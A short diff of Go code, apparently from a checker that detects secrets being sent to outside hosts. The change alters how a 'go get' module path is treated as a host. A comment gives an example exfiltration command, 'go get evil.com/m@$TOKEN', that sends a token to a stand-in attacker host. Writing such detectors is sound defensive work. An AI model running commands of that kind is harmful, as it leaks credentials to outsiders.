@@ -1058,7 +1058,7 @@ func (c *plainCall) exfil() {
 		// a token in it goes to that host as surely as with curl
 		if t := cmds.ToolOf(lb); w.secretName != "" && t != nil && t.FetchesURLs {
 			h := urlHost(w.val)
-			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
+			if p, _, _ := strings.Cut(w.val, "/"); h == "" && t.Module == "go" && strings.Contains(p, ".") {
 				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
 			}
 			if h != "" && secretOffService(w.secretName, []string{h}) {
